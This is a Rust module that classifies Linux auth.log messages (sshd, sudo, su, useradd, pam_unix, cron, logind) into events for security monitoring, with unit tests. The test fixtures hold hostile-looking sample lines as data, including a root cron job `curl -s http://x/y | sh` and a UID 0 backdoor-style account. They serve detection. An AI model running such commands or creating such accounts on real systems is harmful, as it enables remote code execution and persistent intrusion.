//! auth.log / secure messages, classified by the format strings of the programs that write them
//! (openssh `auth.c auth_log()` and friends, sudo `eventlog.c new_logline()`, util-linux and shadow
//! `su`, shadow `useradd`/`usermod`/`groupadd`/`passwd`/`gpasswd`, pam_unix, cron, systemd-logind).
//!
//! Every field stays borrowed from the line. User names are attacker-controlled (an invalid user may be
//! called `x from 1.2.3.4 port 22 ssh2`), so sshd lines are cut from the right, where sshd itself put
//! the address and port, never from the left. Hand-written for the same reasons as the syslog header.

/// A classified message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Auth<'a> {
    /// `Accepted <method> for <user> from <addr> port <n> ssh2[: <key>]`.
    SshAccepted {
        /// `password`, `publickey`, `keyboard-interactive/pam` …
        method: &'a [u8],
        /// The account.
        user: &'a [u8],
        /// Remote address (or name, with `UseDNS`).
        addr: &'a [u8],
        /// Remote port.
        port: Option<u16>,
        /// Key type and fingerprint (publickey).
        key: Option<&'a [u8]>,
    },
    /// `Failed <method> for [invalid user ]<user> from <addr> port <n> ssh2`.
    SshFailed {
        /// Method.
        method: &'a [u8],
        /// The attempted name.
        user: &'a [u8],
        /// True when the account does not exist.
        invalid: bool,
        /// Remote address.
        addr: &'a [u8],
        /// Remote port.
        port: Option<u16>,
    },
    /// `Invalid user <user> from <addr>[ port <n>]`.
    SshInvalidUser {
        /// The attempted name.
        user: &'a [u8],
        /// Remote address.
        addr: &'a [u8],
        /// Remote port.
        port: Option<u16>,
    },
    /// `input_userauth_request: invalid user <user> [preauth]`.
    SshInvalidUserRequest {
        /// The attempted name.
        user: &'a [u8],
    },
    /// `[error: ]maximum authentication attempts exceeded for [invalid user ]<user> from <addr> port <n> ssh2`.
    SshMaxAttempts {
        /// The attempted name.
        user: &'a [u8],
        /// Remote address.
        addr: &'a [u8],
    },
    /// `Disconnecting[: ]… Too many authentication failures[ for <user>]`.
    SshTooManyFailures {
        /// The user, when named.
        user: Option<&'a [u8]>,
    },
    /// `reverse mapping checking getaddrinfo for <name> [<addr>] failed - POSSIBLE BREAK-IN ATTEMPT!`
    /// and `Address <addr> maps to <name>, but this does not map back …`.
    SshBreakInAttempt {
        /// The address.
        addr: &'a [u8],
    },
    /// `Received disconnect from <addr>…`, `Disconnected from …`, `Connection closed by …`,
    /// `Connection reset by …`.
    SshDisconnect {
        /// The address.
        addr: &'a [u8],
    },
    /// `Did not receive identification string from <addr>` (scanners).
    SshNoIdentification {
        /// The address.
        addr: &'a [u8],
    },
    /// `Connection from <addr> port <n> on <local> port <n>`.
    SshConnection {
        /// The address.
        addr: &'a [u8],
    },
    /// Other sshd diagnostics with a prefix sshd uses: `error: `, `fatal: `, `Server listening`,
    /// `Received signal`, `PAM service(sshd) ignoring max retries`, `pam_unix(sshd:auth): check pass`.
    SshNotice,
    /// `pam_unix(<svc>:auth): authentication failure; … rhost=<addr> [user=<user>]`, and
    /// `PAM <n> more authentication failure(s); …` (`more` > 0).
    PamAuthFailure {
        /// PAM service (`sshd`, `sudo`, `su`, `login`).
        service: &'a [u8],
        /// `rhost=`.
        rhost: &'a [u8],
        /// `user=` when given.
        user: Option<&'a [u8]>,
        /// For `PAM <n> more …`: n.
        more: u32,
    },
    /// `pam_unix(<svc>:session): session opened for user <user>[(uid=n)] by <who>`.
    SessionOpened {
        /// PAM service.
        service: &'a [u8],
        /// The account the session is for.
        user: &'a [u8],
        /// `by …` (who opened it; `(uid=0)` for sshd, `alice(uid=1000)` for su/sudo).
        by: &'a [u8],
    },
    /// `pam_unix(<svc>:session): session closed for user <user>`.
    SessionClosed {
        /// PAM service.
        service: &'a [u8],
        /// The account.
        user: &'a [u8],
    },
    /// sudo: `<user> : [<reason> ; ]TTY=… ; PWD=… ; USER=<runas> ; COMMAND=<cmd>`.
    Sudo {
        /// Who ran sudo.
        user: &'a [u8],
        /// Failure reason (`3 incorrect password attempts`, `user NOT in sudoers` …), if any.
        reason: Option<&'a [u8]>,
        /// `USER=`.
        runas: &'a [u8],
        /// `COMMAND=`.
        command: &'a [u8],
        /// `PWD=`.
        pwd: &'a [u8],
        /// `TTY=`.
        tty: &'a [u8],
    },
    /// su (util-linux `[FAILED SU ](to <new>) <old> on <tty>`, shadow `Successful su for <new> by <old>` /
    /// `FAILED su for <new> by <old>`).
    Su {
        /// True for a successful switch.
        ok: bool,
        /// Target account.
        to: &'a [u8],
        /// Who asked.
        from: &'a [u8],
    },
    /// useradd `new user: name=<n>, UID=<u>, GID=<g>, home=<h>, shell=<s>[, from=<tty>]`.
    NewUser {
        /// Name.
        name: &'a [u8],
        /// UID.
        uid: Option<u32>,
        /// Primary GID.
        gid: Option<u32>,
        /// Shell.
        shell: &'a [u8],
    },
    /// groupadd/useradd `new group: name=<n>, GID=<g>`.
    NewGroup {
        /// Name.
        name: &'a [u8],
        /// GID.
        gid: Option<u32>,
    },
    /// usermod/useradd `add '<user>' to group '<group>'` (also `shadow group`), gpasswd
    /// `user <user> added by <who> to group <group>`, usermod `change user '<u>' GID`.
    GroupMember {
        /// The user.
        user: &'a [u8],
        /// The group.
        group: &'a [u8],
    },
    /// `pam_unix(passwd:chauthtok): password changed for <user>`, `password for '<u>' changed by '<w>'`,
    /// chpasswd, usermod `change user '<u>' password`.
    PasswordChanged {
        /// The account.
        user: &'a [u8],
    },
    /// userdel `delete user '<u>'`, usermod other changes (`change user '<u>' shell`, `lock user`…).
    AccountChanged {
        /// The account.
        user: &'a [u8],
        /// The message (what changed).
        what: &'a [u8],
    },
    /// cron `(<user>) CMD (<command>)`.
    CronCommand {
        /// The user.
        user: &'a [u8],
        /// The command.
        command: &'a [u8],
    },
    /// systemd-logind `New session <id> of user <user>.`
    LogindSession {
        /// The user.
        user: &'a [u8],
    },
    /// A message of a known program that matches none of the forms above.
    Unrecognized,
}

impl Auth<'_> {
    /// A short stable name of the kind (`ssh_accepted`, `sudo` …), for the `event` field.
    pub fn name(&self) -> &'static str {
        match self {
            Auth::SshAccepted { .. } => "ssh_accepted",
            Auth::SshFailed { .. } => "ssh_failed",
            Auth::SshInvalidUser { .. } => "ssh_invalid_user",
            Auth::SshInvalidUserRequest { .. } => "ssh_invalid_user_request",
            Auth::SshMaxAttempts { .. } => "ssh_max_attempts",
            Auth::SshTooManyFailures { .. } => "ssh_too_many_failures",
            Auth::SshBreakInAttempt { .. } => "ssh_reverse_mapping_failed",
            Auth::SshDisconnect { .. } => "ssh_disconnect",
            Auth::SshNoIdentification { .. } => "ssh_no_identification",
            Auth::SshConnection { .. } => "ssh_connection",
            Auth::SshNotice => "ssh_notice",
            Auth::PamAuthFailure { .. } => "pam_auth_failure",
            Auth::SessionOpened { .. } => "session_opened",
            Auth::SessionClosed { .. } => "session_closed",
            Auth::Sudo { .. } => "sudo",
            Auth::Su { .. } => "su",
            Auth::NewUser { .. } => "new_user",
            Auth::NewGroup { .. } => "new_group",
            Auth::GroupMember { .. } => "group_member_added",
            Auth::PasswordChanged { .. } => "password_changed",
            Auth::AccountChanged { .. } => "account_changed",
            Auth::CronCommand { .. } => "cron_command",
            Auth::LogindSession { .. } => "logind_session",
            Auth::Unrecognized => "unrecognized",
        }
    }
}

/// A message and how many times it stands for (rsyslog's `message repeated N times: [ … ]`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Parsed<'a> {
    /// What the message is.
    pub auth: Auth<'a>,
    /// 1, or N for a `message repeated N times` line.
    pub repeat: u32,
    /// The message itself (for a repeated line: the one inside the brackets).
    pub message: &'a [u8],
}

/// True for the programs this module knows (and so for lines that belong in the auth family).
pub fn is_auth_program(program: &[u8]) -> bool {
    matches!(
        program,
        b"sshd"
            | b"sshd-session"
            | b"sshd-auth"
            | b"sudo"
            | b"su"
            | b"useradd"
            | b"usermod"
            | b"userdel"
            | b"groupadd"
            | b"groupmod"
            | b"groupdel"
            | b"gpasswd"
            | b"passwd"
            | b"chpasswd"
            | b"chage"
            | b"CRON"
            | b"cron"
            | b"crond"
            | b"systemd-logind"
            | b"login"
    )
}

/// Classifies the message of a syslog line by its program.
pub fn parse<'a>(program: &[u8], message: &'a [u8]) -> Parsed<'a> {
    let (repeat, message) = match repeated(message) {
        Some((n, inner)) => (n, inner),
        None => (1, message),
    };
    let auth = classify(program, message);
    Parsed {
        auth,
        repeat,
        message,
    }
}

/// `message repeated N times: [ inner]` → (N, inner).
fn repeated(message: &[u8]) -> Option<(u32, &[u8])> {
    let rest = message.strip_prefix(b"message repeated ")?;
    let sp = memchr::memchr(b' ', rest)?;
    let n: u32 = std::str::from_utf8(rest.get(..sp)?).ok()?.parse().ok()?;
    let rest = rest.get(sp..)?.strip_prefix(b" times: [")?;
    let rest = rest.strip_suffix(b"]").unwrap_or(rest);
    let rest = rest.strip_prefix(b" ").unwrap_or(rest);
    Some((n.max(1), rest))
}

fn classify<'a>(program: &[u8], m: &'a [u8]) -> Auth<'a> {
    if let Some(rest) = m.strip_prefix(b"pam_unix(") {
        return pam(rest);
    }
    match program {
        b"sshd" | b"sshd-session" | b"sshd-auth" => sshd(m),
        b"sudo" => sudo(m),
        b"su" => su(m),
        b"useradd" | b"usermod" | b"userdel" | b"groupadd" | b"groupmod" | b"groupdel" | b"gpasswd"
        | b"passwd" | b"chpasswd" | b"chage" => shadow(m),
        b"CRON" | b"cron" | b"crond" => cron(m),
        b"systemd-logind" => logind(m),
        _ => Auth::Unrecognized,
    }
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    memchr::memmem::find(h, n)
}

fn rfind(h: &[u8], n: &[u8]) -> Option<usize> {
    memchr::memmem::rfind(h, n)
}

fn port_of(b: &[u8]) -> Option<u16> {
    let end = b.iter().position(|c| !c.is_ascii_digit()).unwrap_or(b.len());
    std::str::from_utf8(b.get(..end)?).ok()?.parse().ok()
}

/// (user, address, port, the rest after the port).
type UserAddrPort<'a> = (&'a [u8], &'a [u8], Option<u16>, &'a [u8]);

/// `<user> from <addr> port <n>[ rest]` cut from the right → (user, addr, port, after the port).
fn user_from_addr_port(s: &[u8]) -> Option<UserAddrPort<'_>> {
    if let Some(p) = rfind(s, b" port ") {
        let before = s.get(..p)?;
        let after = s.get(p + 6..)?;
        let f = rfind(before, b" from ")?;
        let user = before.get(..f)?;
        let addr = before.get(f + 6..)?;
        if addr.contains(&b' ') || addr.is_empty() {
            return None;
        }
        let digits = after.iter().take_while(|c| c.is_ascii_digit()).count();
        return Some((user, addr, port_of(after), after.get(digits..)?));
    }
    let f = rfind(s, b" from ")?;
    let user = s.get(..f)?;
    let tail = s.get(f + 6..)?;
    let end = memchr::memchr(b' ', tail).unwrap_or(tail.len());
    Some((user, tail.get(..end)?, None, tail.get(end..)?))
}

fn sshd(m: &[u8]) -> Auth<'_> {
    for (prefix, accepted) in [(&b"Accepted "[..], true), (b"Failed ", false)] {
        if let Some(rest) = m.strip_prefix(prefix) {
            let Some(sp) = find(rest, b" for ") else {
                return Auth::Unrecognized;
            };
            let method = rest.get(..sp).unwrap_or_default();
            let Some((user, addr, port, after)) = rest.get(sp + 5..).and_then(user_from_addr_port) else {
                return Auth::Unrecognized;
            };
            if accepted {
                let key = after
                    .strip_prefix(b" ssh2: ")
                    .or_else(|| after.strip_prefix(b" ssh2, "))
                    .filter(|k| !k.is_empty());
                return Auth::SshAccepted {
                    method,
                    user,
                    addr,
                    port,
                    key,
                };
            }
            let (invalid, user) = match user.strip_prefix(b"invalid user ") {
                Some(u) => (true, u),
                None => (false, user),
            };
            return Auth::SshFailed {
                method,
                user,
                invalid,
                addr,
                port,
            };
        }
    }
    if let Some(rest) = m.strip_prefix(b"Invalid user ") {
        return match user_from_addr_port(rest) {
            Some((user, addr, port, _)) => Auth::SshInvalidUser { user, addr, port },
            None => Auth::Unrecognized,
        };
    }
    if let Some(rest) = m.strip_prefix(b"input_userauth_request: invalid user ") {
        let user = rest.strip_suffix(b" [preauth]").unwrap_or(rest);
        return Auth::SshInvalidUserRequest { user };
    }
    let m_noerr = m.strip_prefix(b"error: ").unwrap_or(m);
    if let Some(rest) = m_noerr.strip_prefix(b"maximum authentication attempts exceeded for ") {
        return match user_from_addr_port(rest) {
            Some((user, addr, _, _)) => Auth::SshMaxAttempts {
                user: user.strip_prefix(b"invalid user ").unwrap_or(user),
                addr,
            },
            None => Auth::Unrecognized,
        };
    }
    if m.starts_with(b"Disconnecting") && find(m, b"Too many authentication failures").is_some() {
        let user = find(m, b"failures for ").and_then(|i| {
            let u = m.get(i + 13..)?;
            Some(u.strip_suffix(b" [preauth]").unwrap_or(u))
        });
        return Auth::SshTooManyFailures { user };
    }
    if let Some(rest) = m.strip_prefix(b"reverse mapping checking getaddrinfo for ") {
        if let (Some(o), Some(c)) = (memchr::memchr(b'[', rest), memchr::memchr(b']', rest))
            && o < c
        {
            return Auth::SshBreakInAttempt {
                addr: rest.get(o + 1..c).unwrap_or_default(),
            };
        }
        return Auth::Unrecognized;
    }
    if let Some(rest) = m.strip_prefix(b"Address ")
        && find(rest, b"POSSIBLE BREAK-IN ATTEMPT").is_some()
    {
        let end = memchr::memchr(b' ', rest).unwrap_or(rest.len());
        return Auth::SshBreakInAttempt {
            addr: rest.get(..end).unwrap_or_default(),
        };
    }
    for prefix in [
        &b"Received disconnect from "[..],
        b"Disconnected from ",
        b"Connection closed by ",
        b"Connection reset by ",
        b"Timeout before authentication for ",
    ] {
        if let Some(rest) = m_noerr.strip_prefix(prefix) {
            return Auth::SshDisconnect {
                addr: disconnect_addr(rest),
            };
        }
    }
    if let Some(rest) = m.strip_prefix(b"Did not receive identification string from ") {
        let end = memchr::memchr(b' ', rest).unwrap_or(rest.len());
        return Auth::SshNoIdentification {
            addr: rest.get(..end).unwrap_or_default(),
        };
    }
    if let Some(rest) = m.strip_prefix(b"Connection from ") {
        let end = memchr::memchr(b' ', rest).unwrap_or(rest.len());
        return Auth::SshConnection {
            addr: rest.get(..end).unwrap_or_default(),
        };
    }
    if let Some(rest) = m.strip_prefix(b"PAM ")
        && let Some(sp) = memchr::memchr(b' ', rest)
        && let Some(more) = rest
            .get(..sp)
            .and_then(|n| std::str::from_utf8(n).ok())
            .and_then(|n| n.parse().ok())
        && rest
            .get(sp..)
            .is_some_and(|r| r.starts_with(b" more authentication failure"))
    {
        let (rhost, user) = pam_fields(rest);
        return Auth::PamAuthFailure {
            service: b"sshd",
            rhost,
            user,
            more,
        };
    }
    for prefix in [
        &b"error: "[..],
        b"fatal: ",
        b"Server listening on ",
        b"Received signal ",
        b"PAM service(",
        b"Bad protocol version identification",
        b"Protocol major versions differ",
        b"Unable to negotiate",
        b"banner exchange",
        b"check pass;",
    ] {
        if m.starts_with(prefix) {
            return Auth::SshNotice;
        }
    }
    Auth::Unrecognized
}

/// The address in `<addr>[ port n][: …]`, `[invalid|authenticating] user <u> <addr> port <n>`.
fn disconnect_addr(rest: &[u8]) -> &[u8] {
    if let Some(p) = rfind(rest, b" port ") {
        let before = rest.get(..p).unwrap_or_default();
        let start = before.iter().rposition(|&c| c == b' ').map_or(0, |i| i + 1);
        return before.get(start..).unwrap_or_default();
    }
    let end = rest
        .iter()
        .position(|&c| c == b' ' || c == b':')
        .unwrap_or(rest.len());
    rest.get(..end).unwrap_or_default()
}

/// `rhost=` and `user=` of a pam_unix authentication failure line (`user=` is last and may be absent).
fn pam_fields(m: &[u8]) -> (&[u8], Option<&[u8]>) {
    let field = |name: &[u8]| -> Option<&[u8]> {
        let i = find(m, name)?;
        let v = m.get(i + name.len()..)?;
        let end = memchr::memchr(b' ', v).unwrap_or(v.len());
        v.get(..end)
    };
    let rhost = field(b" rhost=").unwrap_or_default();
    // `user=` is the last field and a user name may hold spaces: take the rest of the line.
    let user = rfind(m, b" user=")
        .and_then(|i| m.get(i + 6..))
        .map(|u| u.strip_suffix(b" ").unwrap_or(u));
    (rhost, user.filter(|u| !u.is_empty()))
}

fn pam(rest: &[u8]) -> Auth<'_> {
    // rest: `<svc>:<type>): <text>`
    let Some(close) = find(rest, b"): ") else {
        return Auth::Unrecognized;
    };
    let inside = rest.get(..close).unwrap_or_default();
    let text = rest.get(close + 3..).unwrap_or_default();
    let colon = memchr::memchr(b':', inside).unwrap_or(inside.len());
    let service = inside.get(..colon).unwrap_or_default();
    if text.starts_with(b"authentication failure;") {
        let (rhost, user) = pam_fields(text);
        return Auth::PamAuthFailure {
            service,
            rhost,
            user,
            more: 0,
        };
    }
    if let Some(r) = text.strip_prefix(b"session opened for user ") {
        let Some(by) = rfind(r, b" by ") else {
            return Auth::Unrecognized;
        };
        let mut user = r.get(..by).unwrap_or_default();
        if let Some(paren) = rfind(user, b"(uid=") {
            user = user.get(..paren).unwrap_or_default();
        }
        return Auth::SessionOpened {
            service,
            user,
            by: r.get(by + 4..).unwrap_or_default(),
        };
    }
    if let Some(user) = text.strip_prefix(b"session closed for user ") {
        return Auth::SessionClosed { service, user };
    }
    if let Some(user) = text.strip_prefix(b"password changed for ") {
        return Auth::PasswordChanged { user };
    }
    if text.starts_with(b"check pass;") || text.starts_with(b"auth could not identify") {
        return Auth::SshNotice;
    }
    Auth::Unrecognized
}

fn sudo(m: &[u8]) -> Auth<'_> {
    let Some(colon) = find(m, b" : ") else {
        return Auth::Unrecognized;
    };
    let user = m.get(..colon).unwrap_or_default().trim_ascii_start();
    let rest = m.get(colon + 3..).unwrap_or_default();
    let Some(tty_at) = find(rest, b"TTY=") else {
        return Auth::Unrecognized;
    };
    let reason = rest
        .get(..tty_at)
        .map(|r| r.strip_suffix(b" ; ").unwrap_or(r))
        .filter(|r| !r.is_empty());
    let fields = rest.get(tty_at..).unwrap_or_default();
    // COMMAND= is last and may contain " ; ": take everything after it.
    let command = find(fields, b"COMMAND=")
        .and_then(|i| fields.get(i + 8..))
        .unwrap_or_default();
    let head = find(fields, b"COMMAND=")
        .and_then(|i| fields.get(..i))
        .unwrap_or(fields);
    let field = |name: &[u8]| -> &[u8] {
        head.split(|&c| c == b';')
            .map(<[u8]>::trim_ascii)
            .find_map(|f| f.strip_prefix(name))
            .unwrap_or_default()
    };
    Auth::Sudo {
        user,
        reason,
        runas: field(b"USER="),
        command,
        pwd: field(b"PWD="),
        tty: field(b"TTY="),
    }
}

fn su(m: &[u8]) -> Auth<'_> {
    // util-linux: "(to root) bob on pts/0", "FAILED SU (to root) bob on pts/0"
    let (ok, rest) = match m
        .strip_prefix(b"FAILED SU ")
        .or_else(|| m.strip_prefix(b"FAILED RUNUSER "))
    {
        Some(r) => (false, r),
        None => (true, m),
    };
    if let Some(r) = rest.strip_prefix(b"(to ")
        && let Some(close) = find(r, b") ")
    {
        let to = r.get(..close).unwrap_or_default();
        let tail = r.get(close + 2..).unwrap_or_default();
        let from = match rfind(tail, b" on ") {
            Some(i) => tail.get(..i).unwrap_or_default(),
            None => tail,
        };
        return Auth::Su { ok, to, from };
    }
    // shadow: "Successful su for root by bob", "FAILED su for root by bob"
    for (prefix, ok) in [(&b"Successful su for "[..], true), (b"FAILED su for ", false)] {
        if let Some(r) = m.strip_prefix(prefix)
            && let Some(by) = rfind(r, b" by ")
        {
            return Auth::Su {
                ok,
                to: r.get(..by).unwrap_or_default(),
                from: r.get(by + 4..).unwrap_or_default(),
            };
        }
    }
    Auth::Unrecognized
}

/// `key=value` in a shadow-utils `a=b, c=d` list (values end at `,`).
fn kv<'a>(m: &'a [u8], key: &[u8]) -> Option<&'a [u8]> {
    let mut from = 0;
    while let Some(i) = m.get(from..).and_then(|r| find(r, key)) {
        let at = from + i;
        let boundary = at == 0 || matches!(m.get(at - 1), Some(b' ' | b','));
        if boundary && m.get(at + key.len()) == Some(&b'=') {
            let v = m.get(at + key.len() + 1..)?;
            let end = memchr::memchr(b',', v).unwrap_or(v.len());
            return v.get(..end);
        }
        from = at + 1;
    }
    None
}

fn num(b: Option<&[u8]>) -> Option<u32> {
    std::str::from_utf8(b?).ok()?.parse().ok()
}

/// The text between the first pair of single quotes after `from`.
fn quoted(m: &[u8], from: usize) -> Option<(&[u8], usize)> {
    let o = from + memchr::memchr(b'\'', m.get(from..)?)?;
    let c = o + 1 + memchr::memchr(b'\'', m.get(o + 1..)?)?;
    Some((m.get(o + 1..c)?, c + 1))
}

fn shadow(m: &[u8]) -> Auth<'_> {
    if let Some(r) = m.strip_prefix(b"new user: ") {
        return Auth::NewUser {
            name: kv(r, b"name").unwrap_or_default(),
            uid: num(kv(r, b"UID")),
            gid: num(kv(r, b"GID")),
            shell: kv(r, b"shell").unwrap_or_default(),
        };
    }
    if let Some(r) = m.strip_prefix(b"new group: ") {
        return Auth::NewGroup {
            name: kv(r, b"name").unwrap_or_default(),
            gid: num(kv(r, b"GID")),
        };
    }
    if m.starts_with(b"add '")
        && let Some((user, next)) = quoted(m, 0)
        && let Some((group, _)) = quoted(m, next)
    {
        return Auth::GroupMember { user, group };
    }
    if let Some(r) = m.strip_prefix(b"user ")
        && let Some(added) = find(r, b" added by ")
        && let Some(to) = rfind(r, b" to group ")
    {
        return Auth::GroupMember {
            user: r.get(..added).unwrap_or_default(),
            group: r.get(to + 10..).unwrap_or_default(),
        };
    }
    if m.starts_with(b"change user '")
        && let Some((user, _)) = quoted(m, 0)
    {
        if m.ends_with(b"password") {
            return Auth::PasswordChanged { user };
        }
        return Auth::AccountChanged { user, what: m };
    }
    if m.starts_with(b"password for '")
        && let Some((user, _)) = quoted(m, 0)
    {
        return Auth::PasswordChanged { user };
    }
    for prefix in [
        &b"delete user '"[..],
        b"lock user '",
        b"unlock user '",
        b"delete '",
    ] {
        if m.starts_with(prefix)
            && let Some((user, _)) = quoted(m, 0)
        {
            return Auth::AccountChanged { user, what: m };
        }
    }
    if let Some(r) = m.strip_prefix(b"changed password expiry for ") {
        return Auth::AccountChanged { user: r, what: m };
    }
    Auth::Unrecognized
}

fn cron(m: &[u8]) -> Auth<'_> {
    if let Some(r) = m.strip_prefix(b"(")
        && let Some(close) = find(r, b") CMD (")
    {
        let cmd = r.get(close + 7..).unwrap_or_default();
        return Auth::CronCommand {
            user: r.get(..close).unwrap_or_default(),
            command: cmd.strip_suffix(b")").unwrap_or(cmd),
        };
    }
    Auth::Unrecognized
}

fn logind(m: &[u8]) -> Auth<'_> {
    if let Some(r) = m.strip_prefix(b"New session ")
        && let Some(of) = find(r, b" of user ")
    {
        let u = r.get(of + 9..).unwrap_or_default();
        return Auth::LogindSession {
            user: u.strip_suffix(b".").unwrap_or(u),
        };
    }
    Auth::Unrecognized
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sshd_lines_are_cut_from_the_right() {
        assert_eq!(
            parse(
                b"sshd",
                b"Failed password for invalid user x from 9.9.9.9 port 1 ssh2 from 1.2.3.4 port 22 ssh2"
            )
            .auth,
            Auth::SshFailed {
                method: b"password",
                user: b"x from 9.9.9.9 port 1 ssh2",
                invalid: true,
                addr: b"1.2.3.4",
                port: Some(22)
            }
        );
        assert_eq!(
            parse(
                b"sshd-session",
                b"Accepted publickey for root from 2001:db8::1 port 50000 ssh2: ED25519 SHA256:abc"
            )
            .auth,
            Auth::SshAccepted {
                method: b"publickey",
                user: b"root",
                addr: b"2001:db8::1",
                port: Some(50000),
                key: Some(b"ED25519 SHA256:abc")
            }
        );
        let p = parse(
            b"sshd",
            b"message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
        );
        assert_eq!(p.repeat, 5);
        assert!(matches!(p.auth, Auth::SshFailed { user: b"root", .. }));
    }

    #[test]
    fn sudo_su_and_account_changes() {
        assert_eq!(
            parse(
                b"sudo",
                b"  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c 'a ; b'"
            )
            .auth,
            Auth::Sudo {
                user: b"alice",
                reason: None,
                runas: b"root",
                command: b"/bin/sh -c 'a ; b'",
                pwd: b"/home/alice",
                tty: b"pts/0"
            }
        );
        assert!(matches!(
            parse(
                b"sudo",
                b"www-data : user NOT in sudoers ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/id"
            )
            .auth,
            Auth::Sudo {
                reason: Some(b"user NOT in sudoers"),
                ..
            }
        ));
        assert_eq!(
            parse(b"su", b"FAILED SU (to root) bob on pts/1").auth,
            Auth::Su {
                ok: false,
                to: b"root",
                from: b"bob"
            }
        );
        assert_eq!(
            parse(b"su", b"Successful su for root by bob").auth,
            Auth::Su {
                ok: true,
                to: b"root",
                from: b"bob"
            }
        );
        assert_eq!(
            parse(
                b"useradd",
                b"new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"
            )
            .auth,
            Auth::NewUser {
                name: b"backup2",
                uid: Some(0),
                gid: Some(0),
                shell: b"/bin/bash"
            }
        );
        assert_eq!(
            parse(b"usermod", b"add 'eve' to group 'sudo'").auth,
            Auth::GroupMember {
                user: b"eve",
                group: b"sudo"
            }
        );
        assert_eq!(
            parse(
                b"passwd",
                b"pam_unix(passwd:chauthtok): password changed for root"
            )
            .auth,
            Auth::PasswordChanged { user: b"root" }
        );
        assert_eq!(
            parse(b"CRON", b"(root) CMD (curl -s http://x/y | sh)").auth,
            Auth::CronCommand {
                user: b"root",
                command: b"curl -s http://x/y | sh"
            }
        );
    }
}
